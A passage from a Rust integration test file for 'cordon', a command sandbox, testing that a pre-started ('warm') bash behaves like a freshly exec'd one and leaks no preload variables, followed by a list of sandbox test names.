    std::fs::write(
        config.join("cordon/cordon.toml"),
        "[limits]\ncpu_time = 77\n",
    )
    .expect("write");
    let managed = sb.outside.join("managed.toml");
    // The descriptors are listed into a file: in a pipeline, bash holds the pipe's own
    // descriptors until it has forked both sides, and `ls` may see them.
    let probe = r#"printf '%s|' "$0" "$#" "$BASH_EXECUTION_STRING" "$-" "$SHELLOPTS" "$BASHOPTS"; echo; ls /proc/$$/fd >/tmp/fds; tr '\n' ' ' </tmp/fds; echo; env | sort | grep -v -E '^(_|CORDON_NO_WARM)='; tr '\0' ' ' </proc/$$/cmdline; echo; tr '\0' '\n' </proc/$$/environ | grep -v '^CORDON_NO_WARM='; ulimit -a | grep -v -e '(-u)'; umask; pwd"#;
    let seen = |more: &[(&str, &Path)]| {
        let mut env = vec![
            ("XDG_CONFIG_HOME", config.as_path()),
            ("CORDON_MANAGED_SETTINGS", managed.as_path()),
        ];
        env.extend(more);
        let mut c = Client::start_env(&sb, &[], &env);
        c.send(&run("probe", probe));
        let probed = c.event("exited", "probe");
        assert_eq!(probed["exit_code"], 0, "{probed}");
        // Not its last command, which bash would exec in its own place.
        c.send(&run(
            "maps",
            "grep -c cordon-bash-preload /proc/$$/maps; true",
        ));
        c.event("exited", "maps");
        let seen = (warm(&probed), c.streamed("probe"), c.streamed("maps"));
        c.finish();
        seen
    };
    let (was_warm, ahead, maps) = seen(&[]);
    assert!(was_warm, "the probe did not run warm");
    assert!(
        maps.trim().parse::<u32>().unwrap_or(0) > 0,
        "the warm command's bash was not the one started ahead: {maps:?}"
    );
    let (was_warm, exec, maps) = seen(&[("CORDON_NO_WARM", Path::new("1"))]);
    assert!(!was_warm && maps.trim() == "0", "the cold probe: {maps:?}");
    assert_eq!(ahead, exec, "bash started ahead differs from bash exec'd");
    assert!(
        ahead.lines().nth(1) == Some("0 1 2 ")
            && ahead.contains("(seconds, -t) 77\n")
            && !ahead.contains("CORDON_BASH_PRELOAD")
            && !ahead.contains("LD_PRELOAD"),
        "the hand-over left something to the command: {ahead}"
    );
}

/// The C library reads a few variables before bash's `main` (`GLIBC_TUNABLES` here), which a
/// bash started ahead read from its placeholder: a command whose environment sets one gets a
/// bash exec'd for it, in the same warm sandbox, and sees its variable.
fn a_command_with_variables_the_loader_reads_gets_a_bash_of_its_own() {
    let sb = Sandbox::with_mode(Mode::Warm);
    let config = sb.outside.join("config");
    std::fs::create_dir_all(config.join("cordon")).expect("mkdir");
    let managed = sb.outside.join("managed.toml");
    let env = [
        ("XDG_CONFIG_HOME", config.as_path()),
        ("CORDON_MANAGED_SETTINGS", managed.as_path()),
        ("GLIBC_TUNABLES", Path::new("glibc.malloc.perturb=0")),
    ];
    let look = "echo \"tunables=${GLIBC_TUNABLES-unset}\"; grep -c cordon-bash-preload /proc/$$/maps; true";
    let mut c = Client::start_env(&sb, &[], &env);
    c.send(&run("withheld", look));
    let withheld = c.event("exited", "withheld");
    let seen = c.streamed("withheld");
    assert!(warm(&withheld), "{withheld}");
    assert!(
        seen.starts_with("tunables=unset\n") && !seen.ends_with("\n0\n"),
        "{seen}"
    );
    std::fs::write(
        config.join("cordon/cordon.toml"),
        "[env]\nkeep = [\"GLIBC_TUNABLES\"]\n",
    )
    .expect("write");
    for id in ["kept", "kept-again"] {
        c.send(&run(id, look));
        let kept = c.event("exited", id);
        assert!(warm(&kept) && kept["exit_code"] == 0, "{kept}");
        assert_eq!(
            c.streamed(id),
            "tunables=glibc.malloc.perturb=0\n0\n",
            "{id}: not a bash of its own, or without its variable"
        );
        assert_eq!(
            c.event("started", id)["pid"],
            c.event("started", "withheld")["pid"],
            "{id} did not run in the same warm sandbox"
        );
    }
    c.finish();
}

common::tests!(
    "exec.rs":
    runs_side_by_side_each_start_where_cordons_state_directory_was_missing,
    runs_go_on_at_once_and_each_reports_its_own_end,
    an_exit_code_of_128_plus_n_is_not_taken_for_signal_n,
    cancel_kills_the_whole_sandbox,
    cancel_kills_the_whole_warm_command,
    cancel_kills_the_whole_sandbox_without_user_namespaces,
    ask_user_waits_for_an_answer_and_end_of_input_means_no,
    denied_runs_are_refused_and_bad_lines_get_errors_naming_them,
    kept_output_is_bounded_while_all_of_it_streams,
    a_run_beyond_max_commands_is_refused_until_one_has_ended,
    pipes_are_not_a_terminal_and_take_stdin,
    on_a_terminal_programs_see_it_its_size_resizes_and_ctrl_c,
    the_shell_checks_each_line_runs_it_sandboxed_and_ctrl_c_cancels_only_the_command,
    the_shell_started_from_an_interactive_bash_never_hangs,
    a_command_that_runs_sandboxed_skips_asking_when_the_settings_say_so,
    the_settings_place_commands_outside_the_sandbox_and_the_locks_keep_them_in,
    a_killed_exec_leaves_no_run_behind,
    exec_follows_settings_edited_while_it_runs,
    a_terminated_exec_cancels_its_runs_and_says_so,
    exec_leaves_nothing_in_its_temporary_directory,
    exec_refuses_a_timeout_out_of_range_and_goes_on,
    exec_refuses_a_max_output_out_of_range_and_goes_on,
    exec_refuses_pty_rows_out_of_range_and_goes_on,
    exec_refuses_pty_cols_out_of_range_and_goes_on,
    exec_refuses_resize_rows_out_of_range_and_goes_on,
    exec_refuses_resize_cols_out_of_range_and_goes_on,
    a_cwd_outside_the_workspace_is_refused,
    a_run_cannot_plant_the_settings_the_next_run_is_decided_by,
    a_run_cannot_plant_the_settings_the_next_run_is_decided_by_without_namespaces,
    plan_mode_runs_nothing_that_writes_through_a_read_only_command,
    a_warm_sandbox_gives_each_command_a_clean_slate,
    warm_commands_side_by_side_cannot_reach_each_other,
    a_changed_spec_gets_a_sandbox_of_its_own,
    a_killed_warm_sandbox_is_replaced,
    bash_started_ahead_sees_what_an_exec_gives_it,
    a_command_with_variables_the_loader_reads_gets_a_bash_of_its_own,
    a_killed_exec_leaves_nothing_a_warm_command_planted,
    a_protected_path_made_after_the_sandbox_is_read_only_for_the_next_command,
    a_protected_file_the_host_replaced_stays_read_only_for_the_next_warm_command,
    a_hidden_file_the_host_replaced_stays_hidden_from_the_next_warm_command,
);
